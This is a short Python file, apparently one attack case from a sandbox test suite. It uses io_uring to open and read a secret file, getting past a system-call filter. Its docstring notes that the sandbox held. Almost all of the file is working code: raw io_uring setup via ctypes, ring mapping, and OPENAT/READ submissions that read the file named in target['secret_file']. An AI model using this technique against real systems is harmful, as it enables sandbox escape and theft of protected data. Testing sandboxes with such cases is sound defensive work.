"""Lets the kernel open the secret through io_uring, whose work no filter of system calls sees.

Held: passed
"""

import ctypes
import mmap
import os
import struct

SETUP, ENTER = 425, 426
OPENAT, READ = 18, 22
AT_FDCWD = -100


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 4, parameters)
    if ring < 0:
        return None
    words = struct.unpack("<30I", parameters.raw)
    entries, completions = words[0], words[1]
    submit, complete = words[10:20], words[20:30]  # offsets: head tail mask … array / head tail mask … cqes
    submitted = mmap.mmap(ring, submit[6] + 4 * entries, offset=0)
    completed = mmap.mmap(ring, complete[5] + 16 * completions, offset=0x8000000)
    queue = mmap.mmap(ring, 64 * entries, offset=0x10000000)

    def do(operation, descriptor, address, length, flags=0):
        tail = struct.unpack_from("<I", submitted, submit[1])[0]
        slot = tail & struct.unpack_from("<I", submitted, submit[2])[0]
        entry = struct.pack("<BBHiQQIIQ", operation, 0, 0, descriptor, 0, address, length, flags, 7)
        queue[64 * slot : 64 * slot + 64] = entry.ljust(64, b"\0")
        struct.pack_into("<I", submitted, submit[6] + 4 * slot, slot)
        struct.pack_into("<I", submitted, submit[1], tail + 1)
        if libc.syscall(ENTER, ring, 1, 1, 1, None, 0) < 0:
            return -1
        head = struct.unpack_from("<I", completed, complete[0])[0]
        at = complete[5] + 16 * (head & struct.unpack_from("<I", completed, complete[2])[0])
        struct.pack_into("<I", completed, complete[0], head + 1)
        return struct.unpack_from("<Qi", completed, at)[1]

    path = ctypes.create_string_buffer(target["secret_file"].encode())
    buffer = ctypes.create_string_buffer(100)
    opened = do(OPENAT, AT_FDCWD, ctypes.addressof(path), 0)
    if opened < 0:
        return None
    got = do(READ, opened, ctypes.addressof(buffer), 99)
    os.close(opened)
    return buffer.raw[:got] if got > 0 else None
